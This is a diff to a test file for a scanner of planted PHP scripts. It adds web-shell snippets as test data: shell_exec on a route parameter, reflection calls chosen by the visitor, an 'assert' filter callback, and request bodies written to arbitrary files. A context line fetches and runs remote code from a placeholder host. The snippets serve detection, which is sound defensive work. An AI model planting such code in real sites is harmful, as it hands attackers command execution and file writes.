@@ -51,6 +51,26 @@ describe('what planted scripts do', () => {
       `$at = 'http://a.example.test/'; add_action('init', function () use ($at) { $r = wp_remote_get($at); ${RUN}(wp_remote_retrieve_body($r)); });`,
       'php.remote-to-code critical',
     ],
+    [
+      'run a parameter of a route',
+      `function go($r) { return shell_exec($r->get_param('c')); }`,
+      'php.request-to-command critical',
+    ],
+    [
+      'call by reflection what the visitor names',
+      `(new ReflectionMethod(${POST}['c'], 'm'))->invoke(null, ${POST}['a']);`,
+      'php.request-chooses-call critical',
+    ],
+    [
+      'filter the input by a callback',
+      `filter_input(INPUT_POST, 'a', FILTER_CALLBACK, array('options' => 'assert'));`,
+      'php.callback-to-code high',
+    ],
+    [
+      'copy the body of a request to any file',
+      `$o = fopen(${POST}['p'], 'w'); stream_copy_to_stream(fopen('php://input', 'r'), $o);`,
+      'php.request-to-file high',
+    ],
     ['make variables of the request', `extract(${POST}); $a($b);`, 'php.request-chooses-call critical'],
     [
       'store any upload',
@@ -116,6 +136,10 @@ describe('what honest scripts do', () => {
       `if (current_user_can('upload')) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);`,
     ],
     ['assert a fact', 'assert($a instanceof B);'],
+    ['ask a route for its parameter', `function go($r) { return find_post($r->get_param('id')); }`],
+    ['make an object of a class of theirs', `$c = new ReflectionClass('Shop'); $c->newInstance(${POST}['id']);`],
+    ['filter a number', `$n = filter_input(INPUT_POST, 'n', FILTER_VALIDATE_INT); show($n);`],
+    ['copy one stream to another', `stream_copy_to_stream(fopen('a.csv', 'r'), fopen('php://output', 'w'));`],
     [
       'show in a hook what another server says',
       `add_action('wp_footer', function () { echo wp_remote_retrieve_body(wp_remote_get('http://a.example.test/news')); });`,
